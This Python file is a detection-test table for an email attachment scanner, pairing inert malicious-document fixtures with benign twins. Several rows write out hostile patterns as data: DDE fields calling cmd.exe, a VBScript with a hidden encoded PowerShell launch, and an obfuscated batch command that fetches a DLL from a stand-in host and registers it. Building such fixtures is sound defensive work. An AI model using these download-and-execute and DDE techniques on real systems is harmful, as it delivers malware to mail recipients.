"""The forms of attack that Sekisho is there for: an inert fixture of each, and its honest twin.

A row's `verdict` is what the mail with the fixture gets in each carrier; `twin_verdict` what the honest one gets. Where a carrier
gives another, `other` says which and why: nothing is left out silently.
"""

import dataclasses

import forms


@dataclasses.dataclass
class Row:
    form: str                  # what it is, for docs/coverage.md
    name: str                  # of the file
    make: object               # () -> bytes
    twin_name: str
    twin: object
    verdict: str = "malicious"
    twin_verdict: str = "clean"
    why: str = ""              # where the verdict is not "malicious", or the twin's not "clean"
    other: dict = dataclasses.field(default_factory=dict)       # carrier -> (verdict, why)
    twin_other: dict = dataclasses.field(default_factory=dict)


# What honest pages do not do either, but for portals of encrypted mail, whose files are of no known kind.
BUILT = {"HTML": ("suspicious", "a page that builds an Office document or a shortcut is quarantined, whatever is in it")}

ROWS = [
    Row("Word 97-2003, VBA (2019-09)", "Mes_G697449.doc", forms.ours("dropper.doc"), "figures.xls", forms.ours("benign-macro.xls"), twin_other=BUILT),
    Row("Word 97-2003, VBA (2018-05)", "invoice.doc", forms.ours("dropper-2018-05.doc"), "stub.xls", forms.ours("stub.xls"), twin_other=BUILT),
    Row("Word 97-2003, VBA (2021-11)", "invoice.doc", forms.ours("dropper-2021-11.doc"), "letter.doc", forms.ours("clean.doc"), twin_other=BUILT),
    Row("Word 97-2003, VBA (2022-02)", "invoice.doc", forms.ours("dropper-2022-02.doc"), "letter.doc", forms.ours("clean.doc"), twin_other=BUILT),
    Row("Word 97-2003, VBA (2023-03)", "invoice.doc", forms.ours("dropper-2023-03.doc"), "letter.doc", forms.ours("clean.doc"), twin_other=BUILT),
    Row("Word 2007 and later, VBA", "invoice.docm", forms.ours("dropper.docm"), "minutes.docx", forms.ours("clean.docx"), twin_other=BUILT),
    Row("Excel 97-2003, VBA", "57_01042022.xls", forms.ours("dropper.xls"), "figures.xls", forms.ours("benign-macro.xls"), twin_other=BUILT),
    Row("Word 2003 XML, VBA", "invoice.doc", forms.ours("dropper-xml.doc"), "report.xml", forms.word_xml),
    Row("Flat OPC, VBA", "invoice.doc", forms.ours("dropper-flat-opc.doc"), "report.xml", forms.word_xml),
    Row("Script in a document of Word", "package.doc", forms.ours("package.doc"), "letter.doc", forms.ours("clean.doc"), twin_other=BUILT),
    Row("Script of 2019-10", "8019.js", forms.ours("script.js"), "notes.txt", forms.notes),
    Row("Word, remote template", "report.docx", lambda: forms.docx(template="https://example.invalid/t.dotm"),
        "report.docx", lambda: forms.docx(template="file:///\\\\srv\\templates\\x.dotm"), twin_other=BUILT),
    Row("Word, object that lies elsewhere", "report.docx", lambda: forms.docx(others=[("oleObject", "http://example.invalid/a.hta")]),
        "report.docx", lambda: forms.docx(others=[("hyperlink", "http://example.com/")]), twin_other=BUILT),
    Row("Word, DDE field over runs", "report.docx", lambda: forms.docx(forms.field("DDE", "AUTO c:\\\\windows\\\\sys", "tem32\\\\cmd.exe \"/k rem\"")),
        "report.docx", lambda: forms.docx(forms.field(" PAGE ")), twin_other=BUILT),
    Row("RTF, Equation Editor", "invoice.doc", forms.rtf_equation, "report.rtf", forms.rtf, twin_other=BUILT),
    Row("RTF, remote template", "invoice.rtf", lambda: forms.rtf_template("http://example.invalid/t.dotm"),
        "report.rtf", lambda: forms.rtf_template("C:\\\\Templates\\\\report.dot"), twin_other=BUILT),
    Row("RTF, DDE field", "invoice.rtf", lambda: forms.rtf_field("DDEAUTO c:\\\\\\\\windows\\\\\\\\system32\\\\\\\\cmd.exe \"/k rem\""),
        "report.rtf", lambda: forms.rtf_field("PAGE"), twin_other=BUILT),
    Row("Excel 4.0 macros in a hidden sheet", "07062022.xls", forms.ours("dropper-xlm.xls"), "print.xls", forms.ours("print-xlm.xls"), twin_other=BUILT),
    Row("Shortcut that looks for a script in itself (2022-04)", "Form 04.25.2022, US.doc.lnk", forms.ours("emotet.lnk"),
        "sales.lnk", forms.ours("folder.lnk"), twin_other=BUILT),
    Row("Internet shortcut to a server's program", "invoice.url", lambda: forms.url_file("file://192.0.2.7/share/invoice.exe"),
        "portal.url", lambda: forms.url_file("https://www.example.com/"),
        other={"HTML": ("clean", "sixty bytes: shorter than what is looked for in the scripts of a page")}),
    Row("SVG with a script", "invoice.svg", lambda: forms.svg("location='http://example.invalid/'"), "logo.svg", lambda: forms.svg(""),
        verdict="suspicious", why="drawings that move by a script are sent honestly now and then: it is quarantined, not called malicious"),
    Row("VBScript that starts PowerShell", "invoice.vbs", forms.script(
        'Rem {comment}\nSet s = CreateObject("WScr" & "ipt.Shell")\nIf False Then s.Run "power" & "shell -w hidden -e SQBFAFgA", 0\n'),
        "list.csv", lambda: forms.csv("=RSS|'7203.T'!Price")),
    Row("Batch file that fetches a program", "invoice.cmd", forms.script(
        "@echo off\nrem {comment}\nexit /b\nc^u^rl -o %TEMP%\\a.dll http://example.invalid/a.dll\nregs^vr32 /s %TEMP%\\a.dll\n"),
        "readme.txt", forms.notes),
]
